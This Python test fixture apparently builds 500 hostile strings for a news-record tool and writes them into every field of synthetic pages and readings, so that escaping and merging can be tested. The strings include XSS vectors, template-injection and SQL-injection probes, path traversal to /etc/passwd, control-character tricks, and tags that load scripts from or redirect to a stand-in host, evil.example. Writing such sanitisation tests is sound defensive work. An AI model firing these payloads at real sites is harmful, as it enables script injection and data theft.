"""Five hundred strings that want to be more than words, and a record in whose every field they stand."""

from dataclasses import replace
from itertools import product

from dragoman.record import add_readings, open_to_write
from readings import PAGE_TEXT, PARAGRAPHS, make_page, make_reading

_RUN = "window.ran=1"
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><img src=x onerror={_RUN}>",
    "<style>@import 'http://evil.example/x'</style>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input type=submit>",
    "<object data=http://evil.example/x></object>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=http://evil.example/x.png>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    "<div style=background:url(http://evil.example/x)>",
    f"<marquee onstart={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    "<div hx-get=http://evil.example hx-trigger=load>",
    f"<div hx-on:load={_RUN} data-hx-on-load={_RUN}>",
    "<div data-island=timeline data-src=http://evil.example/x>",
    f"<script type=module>{_RUN}</script>",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:x",
    "\u202e\u2066evil\u2069",
    "\x1b]0;x\x07",
    "&lt;script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\\u003cscript\\u003e",
    "'; DROP TABLE shown; --",
    '" OR 1=1 --',
    "../../../etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    '=HYPERLINK("http://evil.example")',
    "constructor",
    "__proto__",
)
_AROUND = (
    "{}",
    "</title>{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "</style></noscript>{}",
    "\u2028{}\u2028",
)
STRINGS = tuple(
    around.format(element) if around == "{}" else around.replace("{}", element)
    for around, element in product(_AROUND, _ELEMENTS)
)


def hostile_reading(words, number):
    """A page and its reading with these words in every field that a page can fill."""
    plain = f"{number} " + " ".join(words.split())
    told = PARAGRAPHS[1] + " " + plain
    page = make_page(PAGE_TEXT.replace(PARAGRAPHS[1], told), source=f"{number}-{words}.txt")
    page = replace(page, url=f"https://haber.example/{number}?x={words}", outlet=words)
    reading = make_reading(page, paragraphs=(PARAGRAPHS[0], told, PARAGRAPHS[2]))
    fields = {
        name: replace(getattr(reading.article, name) or reading.article.title, value=words)
        for name in ("title", "outlet", "agency", "author")
    }
    article = replace(reading.article, url=f"javascript:{words}", flags=(words,), **fields)
    actors = tuple(
        replace(actor, name=f"{actor.name} {words}", office=words)
        if actor.kind == "person"
        else replace(actor, name=words)
        for actor in reading.actors
    )
    events = tuple(
        replace(event, place=replace(event.place, name=words) if event.place else None) for event in reading.events
    )
    papers = tuple(replace(paper, title=words, subject=words) for paper in reading.agreements)
    statements = tuple(replace(each, text=words) for each in reading.statements)
    return page, replace(
        reading, article=article, actors=actors, events=events, agreements=papers, statements=statements
    )


def hostile_record(path, strings=STRINGS, *, merged=True):
    """All pages carry nearly one text, which is slow to merge when they are many."""
    with open_to_write(path) as conn:
        readings = [hostile_reading(words, number) for number, words in enumerate(strings)]
        add_readings(conn, readings, merge=merged)
    return path
